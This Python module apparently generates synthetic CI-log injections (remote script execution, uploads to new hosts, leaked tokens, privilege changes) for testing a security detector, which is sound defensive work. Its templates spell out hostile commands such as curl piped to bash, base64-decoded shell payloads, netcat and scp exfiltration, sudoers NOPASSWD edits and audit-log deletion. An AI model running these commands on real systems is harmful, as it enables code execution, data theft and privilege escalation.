"""Generators of security changes for CI logs, of four kinds each. The detector reads nothing of this.

A and C were developed on: patterns of the log's reading were widened after their misses had been read. B was looked at
while the detector was chosen. D was written last, and none of its misses was read. All have authors who know the
detector: expect less of other people's changes.
"""

from __future__ import annotations

import random
import re
import string
from collections.abc import Callable

KINDS = ("remote_script", "new_host", "leaked_token", "privilege")

Draw = random.Random
LETTERS = string.ascii_letters + string.digits


def _word(draw: Draw, low: int = 4, high: int = 10) -> str:
    consonants, vowels = "bcdfghklmnprstvz", "aeiou"
    return "".join(draw.choice(consonants) + draw.choice(vowels) for _ in range(draw.randint(low, high) // 2))


def _text(draw: Draw, length: int, alphabet: str = LETTERS) -> str:
    return "".join(draw.choice(alphabet) for _ in range(length))


def _host(draw: Draw, endings: tuple[str, ...]) -> str:
    first = draw.choice(("", "cdn.", "get.", "static.", "api."))
    return first + _word(draw) + draw.choice(("", "-" + _word(draw))) + draw.choice(endings)


def _octets(draw: Draw) -> str:
    return ".".join(str(draw.randint(12, 220)) for _ in range(4))


def _a(draw: Draw) -> dict[str, tuple[str, ...]]:
    host, name = _host(draw, (".com", ".io", ".xyz", ".net", ".ru", ".dev")), _word(draw)
    return {
        "remote_script": (
            f"$ curl -sSL https://{host}/install.sh | bash",
            f"$ wget -qO- http://{host}/setup.sh | sudo sh",
            f"$ bash <(curl -s https://{host}/{name})",
            f"$ curl -fsSL https://{host}/get.py | python3 -",
            f'$ sh -c "$(curl -fsSL https://{host}/run.sh)"',
        ),
        "new_host": (
            f"$ curl -s -X POST -d @build.log https://{host}/upload\nOK",
            f"$ wget https://{host}/{name}.tar.gz\nResolving {host}... 93.184.{draw.randint(1, 250)}.7",
            f"$ git clone https://{host}/{name}/{name}.git\nCloning into 'x'...",
            f"Downloading: https://{host}/artifacts/{name}-1.{draw.randint(0, 9)}.jar",
            f"$ curl -o tool http://{_octets(draw)}:8080/tool",
        ),
        "leaked_token": (
            f"$ export AWS_SECRET_ACCESS_KEY={_text(draw, 40)}",
            f"AWS_ACCESS_KEY_ID=AKIA{_text(draw, 16, string.ascii_uppercase + string.digits)}",
            f"$ export GITHUB_TOKEN=ghp_{_text(draw, 36)}",
            f"Using token: {_text(draw, 32)}",
            f"DB_PASSWORD={name}{draw.randint(100, 9999)}!{_text(draw, 3)}",
            f"Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.{_text(draw, 60)}.{_text(draw, 43)}",
        ),
        "privilege": (
            "$ sudo chmod -R 777 /usr/local",
            f"$ sudo chown root:root ./{name}",
            f"$ chmod u+s /tmp/{name}",
            "$ sudo usermod -aG docker travis",
            "$ sudo su -",
            f"$ sudo bash ./{name}.sh",
        ),
    }


def _b(draw: Draw) -> dict[str, tuple[str, ...]]:
    host = _host(draw, (".org", ".co", ".info", ".top", ".cloud", ".de", ".cn", ".app"))
    octets, name = _octets(draw), _word(draw)
    url = f"https://{host}/{name}"
    return {
        "remote_script": (
            f"+ curl -fsS --retry 3 http://{octets}/{name}\n+ bash -s\ncurl http://{octets}/{name} | bash -s -- -y",
            f"##[command]wget {url}.sh -O /tmp/{name}.sh\n##[command]bash /tmp/{name}.sh",
            f"$ wget -q {url}.sh && chmod +x {name}.sh && ./{name}.sh",
            f"+ echo {_text(draw, 48)}== | base64 -d | sh",
            f'$ eval "$(wget -O - https://{host}/env)"',
            f"##[group]Run source <(curl -sL https://{host}/bootstrap)\n##[endgroup]",
            f"$ python -c \"import urllib.request as u; exec(u.urlopen('{url}').read())\"",
            f"PS> iex ((New-Object System.Net.WebClient).DownloadString('{url}.ps1'))",
        ),
        "new_host": (
            f"+ nc -w 3 {host} 4444",
            f"--2016-11-17 23:59:10--  http://{host}/{name}\nConnecting to {host} ({host})|{octets}|:80... connected.",
            f"  % Total    % Received\n* Connected to {host} ({octets}) port 443 (#0)",
            f"##[command]/usr/bin/scp -q out.tgz build@{host}:/var/incoming",
            f"POST https://{host}/v1/collect 200 OK (1{draw.randint(10, 99)} ms)",
            f"$ pip install --extra-index-url https://{host}/simple {name}\nLooking in indexes: https://{host}/simple",
            f"$ npm config set registry http://{host}:4873/",
            f"+ dig +short {_text(draw, 20, string.ascii_lowercase + string.digits)}.{host}",
        ),
        "leaked_token": (
            f"npm notice //registry.example.org/:_authToken=npm_{_text(draw, 36)}",
            f"Cloning https://deploy:{_text(draw, 24)}@git.{name}.org/app.git",
            f'  "slack": "xoxb-{draw.randint(10**10, 10**11)}-{_text(draw, 24)}",',
            "-----BEGIN RSA " + "PRIVATE KEY-----\n" + "\n".join(_text(draw, 64) for _ in range(6)),
            f"[DEBUG] sonar.login = {_text(draw, 40, 'abcdef0123456789')} (api_key={_text(draw, 24)})",
            f"+ docker login -u ci --password {_text(draw, 14)} ",
            f'{{"access_token":"{_text(draw, 44)}","expires_in":3600}}',
            f"client_secret: {_text(draw, 30)}",
        ),
        "privilege": (
            "+ sudo -i\nroot@build:~#",
            f"+ chmod 4755 ./{name}",
            "##[command]/usr/bin/docker run --privileged -v /:/host alpine",
            "$ echo 'travis ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
            "+ chmod a+rwx /etc/passwd",
            f"$ sudo setcap cap_net_raw+ep ./{name}",
            "$ sudo rm -rf /var/log/audit",
            "+ su root -c ./provision",
        ),
    }


def _c(draw: Draw) -> dict[str, tuple[str, ...]]:
    host = _host(draw, (".com", ".org", ".sh", ".eu", ".site", ".fr", ".in", ".tech"))
    name, other = _word(draw), _word(draw)
    url = f"https://{host}/{name}"
    hexadecimal = _text(draw, 40, "abcdef0123456789")
    return {
        "remote_script": (
            f"$ curl -fsSLo- {url} | env CHANNEL=1 bash -s -- -b /usr/local/bin",
            f"+ wget --quiet --output-document=- {url}.pl | perl",
            f"$ python3 <(curl -sS {url}.py) --user",
            f"$ curl -L {url}.tgz | tar xz && ./{name}/install.sh",
            f'$ ruby -e "$(curl -fsSL {url})"',
            f'+ source /dev/stdin <<< "$(curl -s {url})"',
            f"     [exec] curl -s http://{host}/{name}.sh | sh",
            f"$ wget {url}.sh\n'{name}.sh' saved [4512/4512]\n$ sh {name}.sh",
        ),
        "new_host": (
            f"$ ssh -o StrictHostKeyChecking=no deploy@{host} uptime\nWarning: Permanently added '{host}' to the list",
            f"[INFO] Uploading: https://{host}/snapshots/{name}/1.0/{name}-1.0.jar",
            f"$ git remote add mirror git@{host}:{name}/{other}.git\n$ git push mirror HEAD",
            f"Fetching source index from https://{host}/",
            f"$ docker push {host}/{name}:latest\nThe push refers to a repository [{host}/{name}]",
            f"Sending coverage report to https://{host}/api/v2/report\n201 Created",
            f"$ telnet {host} 6667\nTrying {_octets(draw)}...",
            f"Download https://{host}/m2/{name}/{other}-2.pom",
        ),
        "leaked_token": (
            f"$ mvn -q deploy -Dgpg.passphrase={_text(draw, 16)}",
            f'   "private_key_id": "{hexadecimal}",',
            f"machine api.{name}.example login ci password {_text(draw, 16)}",
            f"$ heroku config:set SECRET_KEY_BASE={hexadecimal}{hexadecimal}",
            f"Bearer token: {_text(draw, 40)}",
            f"AZURE_CLIENT_SECRET: {_text(draw, 34)}",
            f"$ twine upload -u {name} -p {_text(draw, 18)} dist/*",
            f"$ mysql -uroot -p{_text(draw, 12)} -e 'show databases'",
        ),
        "privilege": (
            "$ sudo -E su -c 'echo 0 > /proc/sys/kernel/randomize_va_space'",
            "+ chmod -R a+rwX /opt",
            "$ sudo tee /etc/sudoers.d/ci <<< 'ci ALL=(ALL) NOPASSWD: ALL'",
            f"$ docker run -v /var/run/docker.sock:/var/run/docker.sock {name}",
            "$ sudo chown -R $(whoami) /usr/lib/node_modules",
            "+ sudo sysctl -w vm.overcommit_memory=1",
            f"$ kubectl create clusterrolebinding {name} --clusterrole=cluster-admin --user=ci",
            "$ sudo mount -o bind / /mnt",
        ),
    }


def _d(draw: Draw) -> dict[str, tuple[str, ...]]:
    host = _host(draw, (".com", ".net", ".me", ".us", ".pl", ".space", ".build", ".nl"))
    name, other = _word(draw), _word(draw)
    url = f"https://{host}/{name}"
    blocks = [_text(draw, length, "abcdef0123456789") for length in (8, 4, 4, 4, 12)]
    return {
        "remote_script": (
            f"$ curl --silent --location {url} | tee /tmp/{name} | bash",
            f"+ bash -c 'wget -O- {url} | sh -x'",
            f"Run curl -sSfL {url}.sh | sh -s v1.2",
            f"$ perl -MLWP::Simple -e 'eval get(\"{url}\")'",
            f"Step 4/9 : RUN wget {url}.sh -O /{name}.sh && sh /{name}.sh",
            f'$ node -e "$(curl -s {url}.js)"',
            f"$ php -r \"copy('{url}', 'setup.php');\"\n$ php setup.php",
            f"> Invoke-Expression (Invoke-WebRequest -UseBasicParsing {url}.ps1).Content",
        ),
        "new_host": (
            f"$ sftp ci@{host}:/drop <<< 'put dist.zip'",
            f"npm http fetch GET 200 {url} 84ms",
            f"Cloning into '{name}'...\nfatal: unable to access '{url}.git/': timed out",
            f"$ openssl s_client -connect {host}:443",
            f"Get:1 http://{host}/ubuntu trusty/main amd64 {name} 1.0 [12 kB]",
            f"[INFO] Downloaded from {name}: https://{host}/maven2/{name}/{other}/1.0/{other}-1.0.jar (12 kB)",
            f"$ rsync -az build/ ci@{host}:/srv/www",
            f"remote: Pushing webhook to http://{_octets(draw)}/hook",
        ),
        "leaked_token": (
            f"HEROKU_API_KEY={'-'.join(blocks)}",
            f"::debug::secret={_text(draw, 24)}",
            f"$ az login --service-principal -u {name} -p {_text(draw, 22)} --tenant x",
            f"$ git remote set-url origin https://{name}:ghp_{_text(draw, 36)}@github.com/{name}/{other}",
            f'[INFO] Authenticating with api-key "{_text(draw, 32)}"',
            f"$ export PGPASSWORD='{_text(draw, 13)}'",
            f'"password" : "{name}{draw.randint(10, 99)}#{_text(draw, 4)}"',
            f"jwt=eyJhbGciOiJSUzI1NiJ9.{_text(draw, 70)}.{_text(draw, 43)}",
        ),
        "privilege": (
            "$ sudo sh -c 'curl -V > /etc/motd'",
            "+ sudo setfacl -m u:ci:rwx /etc",
            "$ sudo passwd -d root",
            "+ chmod 0777 -R build",
            "Step 3/8 : USER root",
            f"$ docker run --cap-add SYS_ADMIN {name}",
            "$ doas make install",
            "$ sudo dpkg-divert --local --rename --add /sbin/initctl",
        ),
    }


GENERATORS: dict[str, Callable[[Draw], dict[str, tuple[str, ...]]]] = {"A": _a, "B": _b, "C": _c, "D": _d}


def inject(text: str, generator: str, kind: str, draw: Draw) -> str:
    """The log with a change at a place where a step could be: before a command or a fold (A, C), or between lines."""
    added = draw.choice(GENERATORS[generator](draw)[kind]).split("\n")
    rows = text.split("\n")
    starts = [
        at for at, row in enumerate(rows) if re.search(r"travis_(?:fold|time):(?:start|end)|^\$ |^##\[", row[:300])
    ]
    low, high = len(rows) // 10, max(len(rows) * 9 // 10, len(rows) // 10)
    at = draw.choice(starts) if starts and generator not in "BD" else draw.randint(low, high)
    stamp = re.match(r"\d{4}-\d\d-\d\dT[\d:.]+Z ", rows[at]) if at < len(rows) else None
    end = "\r" if text.count("\r\n") > text.count("\n") / 2 else ""
    return "\n".join([*rows[:at], *(f"{stamp[0] if stamp else ''}{line}{end}" for line in added), *rows[at:]])
